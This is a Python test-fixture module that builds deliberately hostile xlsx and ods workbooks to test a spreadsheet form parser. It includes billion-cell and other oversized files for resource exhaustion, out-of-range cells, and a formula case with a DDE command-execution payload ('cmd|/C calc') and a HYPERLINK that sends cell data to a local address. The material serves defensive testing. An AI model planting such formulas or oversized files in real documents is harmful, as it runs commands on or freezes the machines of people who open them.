"""Workbooks that are larger than they look."""

from __future__ import annotations

import re
import zipfile

from tests.support import ROOT

from .expected import Hostile, changed, members, packed

SHEET = "xl/worksheets/sheet1.xml"
ODS = (
    '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
    '<office:body><office:spreadsheet><table:table table:name="A">{}</table:table></office:spreadsheet></office:body></office:document-content>'
)
WORN = ROOT / "tests/data/ods/worn-25.2.ods"
CELL = '<table:table-cell{} office:value-type="string"><text:p>x</text:p></table:table-cell>'


def sheets() -> list[str]:
    return [n for n in members("xlsx") if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]


def with_rows(rows: bytes) -> bytes:
    return changed("xlsx", sheets()[-1], lambda x: x.replace(b"</sheetData>", rows + b"</sheetData>", 1))


def far_away() -> bytes:
    return with_rows(b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')


def dimension() -> bytes:
    return changed(
        "xlsx",
        sheets()[-1],
        lambda x: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', x, count=1),
    )


def out_of_bounds() -> bytes:
    return with_rows(b'<row r="99999999999"><c r="ZZZZZZ99999999999" t="inlineStr"><is><t>x</t></is></c></row>')


def shared_string() -> bytes:
    return with_rows(b'<row r="900"><c r="A900" t="s"><v>4294967295</v></c></row>')


def merged() -> bytes:
    """A hundred thousand areas that are merged, each all of the sheet."""
    areas = b'<mergeCell ref="A1:XFD1048576"/>' * 100_000
    return changed(
        "xlsx",
        sheets()[-1],
        lambda x: re.sub(
            rb"</sheetData>", b'</sheetData><mergeCells count="1">' + areas + b"</mergeCells>", x, count=1
        ),
    )


def numbers() -> bytes:
    return with_rows(
        b'<row r="900"><c r="A900"><v>1e999999</v></c><c r="B900"><v>NaN</v></c><c r="C900" s="99999"><v>1</v></c></row>'
    )


def formula() -> bytes:
    return with_rows(
        b'<row r="900"><c r="A900"><f>HYPERLINK("http://127.0.0.1:9/"&amp;A1,"x")</f></c><c r="B900"><f>cmd|\'/C calc\'!A0</f></c></row>'
    )


def ods(table: str) -> bytes:
    return packed(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": ODS.replace("{}", table).encode(),
        }
    )


def worn(row: str) -> bytes:
    """A form with answers as LibreOffice saved it (tests/data/ods), and one more row."""
    with zipfile.ZipFile(WORN) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    parts["content.xml"] = parts["content.xml"].replace(b"</table:table>", row.encode() + b"</table:table>", 1)
    return packed(parts)


def names() -> bytes:
    """Fifty thousand defined names."""
    many = b"".join(b'<definedName name="n%d">Blad1!$A$1</definedName>' % n for n in range(50_000))
    return changed("xlsx", "xl/workbook.xml", lambda x: x.replace(b"</definedNames>", many + b"</definedNames>", 1))


NOTHING = ("not_a_form",)
SHEETS = (
    Hostile(
        "an answered form with a cell repeated a billion times",
        lambda: worn(
            '<table:table-row table:number-rows-repeated="1000000">'
            + CELL.format(' table:number-columns-repeated="1000000"')
            + "</table:table-row>"
        ),
        told=("unplaced_text",),
        reads=True,
        own=False,
    ),
    Hostile("a cell in the last corner of the sheet", far_away, reads=True),
    Hostile("a sheet that says it is as large as it can be", dimension, reads=True),
    Hostile("a cell outside every sheet", out_of_bounds, told=("unplaced_text",), reads=True),
    Hostile("a text that is not in the list of texts", shared_string, ("cut_off",)),
    Hostile("100,000 merged areas", merged, reads=True),
    Hostile("numbers that are none", numbers, reads=True),
    Hostile("formulas that would call and run", formula, told=("outside_link",), reads=True),
    Hostile("50,000 names", names, reads=True),
    Hostile(
        "a cell repeated a million times sideways",
        lambda: ods(
            "<table:table-row>" + CELL.format(' table:number-columns-repeated="1000000"') + "</table:table-row>"
        ),
        NOTHING,
    ),
    Hostile(
        "a row repeated a million times",
        lambda: ods('<table:table-row table:number-rows-repeated="1000000">' + CELL.format("") + "</table:table-row>"),
        NOTHING,
    ),
    Hostile(
        "both",
        lambda: ods(
            '<table:table-row table:number-rows-repeated="1000000">'
            + CELL.format(' table:number-columns-repeated="1000000"')
            + "</table:table-row>"
        ),
        NOTHING,
    ),
    Hostile(
        "repeated less than no times",
        lambda: ods(
            '<table:table-row table:number-rows-repeated="-5">'
            + CELL.format(' table:number-columns-repeated="x"')
            + "</table:table-row>"
        ),
        NOTHING,
    ),
)
